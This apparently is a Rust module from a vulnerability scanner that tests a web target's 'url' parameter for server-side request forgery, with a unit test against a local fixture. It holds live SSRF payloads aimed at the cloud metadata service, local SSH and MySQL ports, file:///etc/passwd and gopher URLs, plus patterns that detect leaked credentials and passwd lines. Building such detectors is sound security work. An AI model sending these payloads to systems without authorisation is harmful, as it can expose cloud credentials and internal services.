use async_trait::async_trait;
use once_cell::sync::Lazy;
use regex::Regex;
use reqwest::Client;
use tokio::time::Instant;

use super::{excerpt, new_match, system_file_patterns, target_of, with_param, Probe};
use crate::error::ModuleError;
use crate::exploits::{
    ExecutionMode, ExploitKind, ExploitModule, ModuleOutput, ScanOptions, Severity, Subject,
    Vulnerability,
};

const KIND: &str = "Server-Side Request Forgery (SSRF)";
const PARAM: &str = "url";
const FIX: &str = "Fetch only allowlisted hosts; block loopback, private and link-local ranges and non-HTTP schemes.";

const PAYLOADS: &[&str] = &[
    "http://169.254.169.254/latest/meta-data/",
    "http://localhost:22",
    "http://127.0.0.1:3306",
    "file:///etc/passwd",
    "gopher://127.0.0.1:3306",
];

static METADATA: Lazy<Regex> =
    Lazy::new(|| Regex::new(r"instance-id|ami-id|iam/security-credentials|computeMetadata").unwrap());

static INTERNAL_BANNERS: Lazy<Vec<Regex>> = Lazy::new(|| {
    vec![
        Regex::new(r"SSH-\d\.\d").unwrap(),
        Regex::new(r"mysql_native_password|\x00\x00\x00\x0a\d+\.\d+").unwrap(),
        Regex::new(r"root:x:0:0:").unwrap(),
    ]
});

/// Internal and metadata URLs passed through the `url` parameter.
pub struct SsrfProbe {
    client: Client,
}

impl SsrfProbe {
    pub fn new(client: Client) -> Self {
        Self { client }
    }
}

#[async_trait]
impl ExploitModule for SsrfProbe {
    fn mode(&self) -> ExecutionMode {
        ExecutionMode::Live
    }

    async fn run(
        &self,
        subject: &Subject,
        options: &ScanOptions,
        deadline: Instant,
    ) -> Result<ModuleOutput, ModuleError> {
        let target = target_of(subject, ExploitKind::Ssrf)?;
        let probe = Probe::new(&self.client, options, deadline);
        let baseline = probe.baseline(target).await?;
        let mut findings = Vec::new();

        for payload in PAYLOADS {
            probe.ensure_time()?;
            let url = with_param(target, PARAM, payload);
            let Some(response) = probe.attempt(probe.client().get(url.clone())).await? else {
                continue;
            };

            if let Some(m) = METADATA.find(&response.body) {
                if !METADATA.is_match(&baseline.body) {
                    findings.push(
                        Vulnerability::new(
                            KIND,
                            Severity::Critical,
                            url.as_str(),
                            "Cloud instance metadata returned through the target",
                        )
                        .with_payload(*payload)
                        .with_evidence(excerpt(&response.body, m.as_str()))
                        .with_recommendation(FIX)
                        .with_cwe("CWE-918"),
                    );
                    continue;
                }
            }

            let internal = new_match(&INTERNAL_BANNERS, &response.body, &baseline.body)
                .or_else(|| new_match(system_file_patterns(), &response.body, &baseline.body));
            if let Some(matched) = internal {
                findings.push(
                    Vulnerability::new(
                        KIND,
                        Severity::High,
                        url.as_str(),
                        "Internal service or local file content returned through the target",
                    )
                    .with_payload(*payload)
                    .with_evidence(excerpt(&response.body, matched))
                    .with_recommendation(FIX)
                    .with_cwe("CWE-918"),
                );
            }
        }

        Ok(ModuleOutput::new(findings, 0))
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::exploits::live::fixture;
    use axum::{extract::Query, routing::get, Router};
    use std::collections::HashMap;

    async fn fetcher(Query(q): Query<HashMap<String, String>>) -> String {
        match q.get("url").map(String::as_str) {
            Some(u) if u.contains("169.254.169.254") => "ami-id\ninstance-id\nhostname".into(),
            Some(u) if u.starts_with("file://") => "root:x:0:0:root:/root:/bin/bash".into(),
            _ => "preview unavailable".into(),
        }
    }

    #[tokio::test]
    async fn detects_metadata_and_file_reads() {
        let url = fixture::serve(Router::new().route("/", get(fetcher))).await;
        let output = SsrfProbe::new(fixture::client())
            .run(&Subject::Target(url), &ScanOptions::default(), fixture::deadline())
            .await
            .unwrap();
        let severities: Vec<_> = output.vulnerabilities.iter().map(|v| v.severity).collect();
        assert_eq!(severities, vec![Severity::Critical, Severity::High]);
    }
}
